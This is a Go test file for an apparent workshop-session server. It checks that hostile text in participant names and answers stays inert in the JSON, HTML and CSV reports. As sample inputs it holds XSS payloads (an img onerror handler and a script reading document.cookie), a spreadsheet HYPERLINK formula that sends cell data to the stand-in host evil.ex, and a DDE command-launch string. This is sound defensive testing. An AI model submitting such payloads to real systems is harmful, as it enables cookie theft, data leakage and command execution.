package live_test

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/paraat-nl/paraat/server"
	"github.com/paraat-nl/paraat/server/live"
)

// TestHostileText: markup and spreadsheet formulas in display names and free-text answers
// reach every export as inert text: escaped in the HTML report (which also forbids scripts
// by its Content-Security-Policy), escaped in the JSON report yet unchanged once decoded, and
// quoted in the CSV so that no spreadsheet evaluates them, while a negative number stays a
// number.
func TestHostileText(t *testing.T) {
	t.Parallel()
	const (
		markup  = `<img src=x onerror=alert(1)>`
		formula = `=HYPERLINK("https://evil.ex/?"&A1,"x")`
		dde     = `@SUM(1+1)*cmd|' /C calc'!A0`
		script  = `<script>alert(document.cookie)</script>`
	)
	e := newEnv(t, newStore(t), live.Options{})
	info, f := startShared(t, e)
	a := e.join(info.Code, markup, "bz", "")
	b := e.join(info.Code, formula, "def", "")
	f.command(map[string]any{"type": "start"})
	f.command(map[string]any{"type": "open", "question": "eerste-stap"})
	for _, c := range []*wsClient{a, b} {
		if m := c.answer(uuid.NewString(), "eerste-stap", map[string]any{"option": "partners-informeren"}); m.str("type") != "ack" {
			t.Fatal(m)
		}
	}
	f.command(map[string]any{"type": "next", "open": true})
	a.expect("world", func(m msg) bool { return m.obj("world").obj("inject").str("id") == "onderzoek" })
	for _, x := range []struct {
		c        *wsClient
		question string
		answer   map[string]any
	}{
		{a, "toelichting", map[string]any{"text": script}},
		{b, "toelichting", map[string]any{"text": dde}},
		{a, "bbp-doel", map[string]any{"number": -3}},
		{b, "bbp-doel", map[string]any{"number": 2.8}},
	} {
		if m := x.c.answer(uuid.NewString(), x.question, x.answer); m.str("type") != "ack" {
			t.Fatalf("%s: %v", x.question, m)
		}
	}

	// JSON: no markup on the wire, every text intact after decoding.
	raw, hdr := fetch(t, e, "/api/sessions/"+info.ID+"/report")
	if strings.Contains(raw, "<img") || strings.Contains(raw, "<script") || !strings.HasPrefix(hdr.Get("Content-Type"), "application/json") {
		t.Fatalf("JSON report (%s) carries raw markup:\n%s", hdr.Get("Content-Type"), raw)
	}
	var rep server.Report
	if err := json.Unmarshal([]byte(raw), &rep); err != nil {
		t.Fatal(err)
	}
	texts := map[string]bool{}
	for _, p := range rep.Participants {
		texts[p.Name] = true
	}
	for _, an := range rep.Answers {
		texts[an.Answer.Text] = true
	}
	for _, s := range []string{markup, formula, script, dde} {
		if !texts[s] {
			t.Errorf("JSON report lost %q", s)
		}
	}

	// HTML: escaped, and no script may run even if something slipped through.
	page, hdr := fetch(t, e, "/sessions/"+info.ID+"/report")
	if strings.Contains(page, "<img") || strings.Contains(page, "<script") || !strings.Contains(page, "&lt;img src=x") ||
		!strings.Contains(page, "&lt;script&gt;") {
		t.Fatalf("HTML report does not escape:\n%s", page)
	}
	if csp := hdr.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("HTML report CSP %q", csp)
	}

	// CSV: no cell a spreadsheet would evaluate, the texts themselves behind a quote.
	data, _ := fetch(t, e, "/api/sessions/"+info.ID+"/report.csv")
	rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, row := range rows[1:] {
		for _, c := range row {
			cells[c] = true
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("CSV cell a spreadsheet would evaluate: %q", c)
				}
			}
		}
	}
	for _, want := range []string{"'" + formula, "'" + dde, markup, script, "-3", "2.8"} {
		if !cells[want] {
			t.Errorf("CSV has no cell %q", want)
		}
	}
}

// fetch GETs a path with the facilitator's cookie and returns the body and the headers.
func fetch(t *testing.T, e *env, path string) (string, http.Header) {
	t.Helper()
	res, err := e.http.Get(e.srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %s", path, res.StatusCode, b)
	}
	return string(b), res.Header
}
